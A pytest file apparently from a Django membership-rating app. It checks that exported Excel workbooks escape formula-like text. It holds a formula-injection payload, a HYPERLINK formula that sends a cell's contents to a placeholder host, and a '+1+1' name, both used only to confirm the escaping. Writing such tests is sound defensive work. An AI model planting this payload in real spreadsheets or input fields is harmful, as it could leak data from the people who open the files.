"""The rating workbooks (quality forms, the round's template) guard formula-like text (core.spreadsheet)."""

import io

import pytest
from openpyxl import load_workbook

from xaydungdang.core.spreadsheet import formula_like
from xaydungdang.members.models import Member
from xaydungdang.reviews import actions, quality, quality_xlsx, roundimport, rulesets
from xaydungdang.web.tests.conftest import people  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://x"&A1,"y")'


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not (formula_like(cell.value) and not cell.value.startswith("'")), cell.value
                    out.append(cell.value)
    return out


def test_quality_forms_and_template_guard_formulas(tree, people):
    an = people["an"]
    actions.record_rating(
        {
            "year": 2024,
            "subject_type": "member",
            "subject_member_id": an.id,
            "level": "incomplete",
            "violation": HOSTILE,
        }
    )
    seen = _cells(quality_xlsx.render(quality.quality_forms(tree["P"], "2024")))
    assert any(v.startswith("'") and HOSTILE in v for v in seen)
    Member.objects.filter(pk=an.pk).update(full_name="+1+1")
    members = list(Member.objects.filter(current_cell=tree["C1"]))
    seen = _cells(roundimport.template(tree["C1"], rulesets.parse_period("2024"), members))
    assert "'+1+1" in seen
